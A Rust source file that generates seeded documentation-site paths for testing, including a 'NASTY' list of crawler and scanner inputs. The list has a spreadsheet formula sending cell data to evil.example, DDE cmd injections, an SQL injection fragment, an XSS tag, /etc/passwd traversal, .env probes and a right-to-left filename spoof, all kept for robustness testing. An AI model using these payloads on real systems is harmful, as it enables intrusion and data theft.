//! Paths of a documentation site, most visited first, and paths that crawlers invent.

use std::collections::HashSet;

use rand::RngExt;

use crate::seeded;

/// Paths of every site, at the top of its list.
const FRONT: [&str; 12] = [
    "/",
    "/quickstart",
    "/llms.txt",
    "/introduction",
    "/api-reference/introduction",
    "/installation",
    "/llms-full.txt",
    "/guides/authentication",
    "/sdks/python/quickstart",
    "/changelog",
    "/api-reference/authentication",
    "/guides/webhooks",
];

const SECTIONS: [&str; 12] = [
    "guides",
    "api-reference",
    "sdks/python",
    "sdks/typescript",
    "sdks/go",
    "sdks/rust",
    "integrations",
    "concepts",
    "self-hosting",
    "tutorials",
    "cli",
    "troubleshooting",
];
const SUBJECTS: [&str; 24] = [
    "projects",
    "webhooks",
    "users",
    "teams",
    "billing",
    "invoices",
    "api-keys",
    "rate-limits",
    "pagination",
    "errors",
    "events",
    "exports",
    "imports",
    "search",
    "audit-log",
    "permissions",
    "single-sign-on",
    "environments",
    "deployments",
    "caching",
    "streaming",
    "batching",
    "retries",
    "versioning",
];
const PAGES: [&str; 16] = [
    "overview",
    "create",
    "list",
    "get",
    "update",
    "delete",
    "quickstart",
    "configure",
    "migrate",
    "examples",
    "best-practices",
    "reference",
    "limits",
    "security",
    "faq",
    "changelog",
];
/// The first language has no prefix and most of the visitors.
const LANGUAGES: [&str; 4] = ["", "/de", "/ja", "/pt-BR"];

/// Paths of crawlers and scanners: formulas, quotes, control characters, other scripts, markup.
const NASTY: [&str; 24] = [
    "/guides/quickstart,copy",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")",
    "/guides/über-uns/größe",
    "/guides/\"quoted\"/page",
    "/日本語/はじめに",
    "+1+cmd|' /C calc'!A0",
    "/search?q=rate limit&page=2#results",
    "@SUM(1+9)*cmd",
    "/guides/it's-here; DROP TABLE visitors",
    "-2+3+cmd|' /C calc'!A0",
    "/<script>alert(document.domain)</script>",
    "/🚀/launch/👩‍💻",
    "/guides//double//slash/",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/مرحبا/دليل",
    "/tab\tin/path",
    "/line\r\nbreak",
    "/right-to-left/\u{202e}gnp.exe",
    "/.env",
    "/wp-login.php",
    "\t=1+1",
    "/zero\u{200b}width",
    "/combining/e\u{301}\u{301}\u{301}",
    "/back\\slash\\path",
];
/// Length in bytes of the path of a crawler in an endless loop.
const LONG_PATH_BYTES: usize = 2_000;
/// Distance between hostile paths in the list. The first is on the first page of rows.
const NASTY_EVERY: usize = 20;

/// The first `count` paths of a site, most visited first and without repetition.
pub(super) fn paths(seed: u64, project: &str, count: usize) -> Vec<String> {
    let nasty = NASTY.iter().map(|path| (*path).to_owned()).chain([looped_path()]);
    let mut nasty = nasty.enumerate().map(|(n, path)| (NASTY_EVERY * (n + 1), path)).peekable();
    let mut ordinary = FRONT.iter().map(|path| (*path).to_owned()).chain(ordinary(seed, project, count));
    let (mut seen, mut paths) = (HashSet::new(), Vec::with_capacity(count));
    while paths.len() < count {
        let Some(path) =
            nasty.next_if(|(rank, _)| *rank <= paths.len()).map(|(_, p)| p).or_else(|| ordinary.next())
        else {
            break;
        };
        if seen.insert(path.clone()) {
            paths.push(path);
        }
    }
    paths
}

/// At least `count` ordinary paths, in an order of the seed, with other languages and old versions late.
fn ordinary(seed: u64, project: &str, count: usize) -> impl Iterator<Item = String> {
    let mut rng = seeded::rng(seed, "paths", project, 0);
    let mut ranked: Vec<(f64, String)> = every_path()
        .take(count)
        .map(|(depth, path)| (rng.random::<f64>() + f64::from(depth) * 0.6, path))
        .collect();
    ranked.sort_by(|(a, _), (b, _)| a.total_cmp(b));
    ranked.into_iter().map(|(_, path)| path)
}

/// All possible paths, with their distance from the main ones. It does not end.
fn every_path() -> impl Iterator<Item = (u16, String)> {
    let versions = (0_u16..).map(|n| if n == 0 { String::new() } else { format!("/v{n}") });
    versions.zip(0_u16..).flat_map(|(version, age)| {
        LANGUAGES.iter().zip(0_u16..).flat_map(move |(language, distance)| {
            let version = version.clone();
            SECTIONS.iter().flat_map(move |section| {
                let version = version.clone();
                SUBJECTS.iter().flat_map(move |subject| {
                    let version = version.clone();
                    PAGES.iter().map(move |page| {
                        (age + distance, format!("{language}{version}/{section}/{subject}/{page}"))
                    })
                })
            })
        })
    })
}

fn looped_path() -> String {
    let mut path = "/calendar/next".repeat(LONG_PATH_BYTES / "/calendar/next".len() + 1);
    path.truncate(LONG_PATH_BYTES);
    path
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_as_many_as_asked_for_all_different_and_the_same_again() {
        for count in [1, 12, 13, 50, 4_000, 40_000] {
            let site = paths(1, "acme-docs", count);
            assert_eq!(site.len(), count);
            assert_eq!(site.iter().collect::<HashSet<_>>().len(), count);
            assert_eq!(site, paths(1, "acme-docs", count));
        }
        assert_ne!(paths(1, "acme-docs", 100), paths(2, "acme-docs", 100));
        assert_ne!(paths(1, "acme-docs", 100), paths(1, "acme-api", 100));
    }

    #[test]
    fn nasty_paths_reach_the_first_page() {
        let site = paths(1, "acme-docs", 4_000);
        assert!(site[..50].iter().any(|path| path.starts_with("=HYPERLINK")));
        assert!(NASTY.iter().all(|path| site.contains(&(*path).to_owned())));
        assert!(site.iter().any(|path| path.len() == LONG_PATH_BYTES));
    }
}
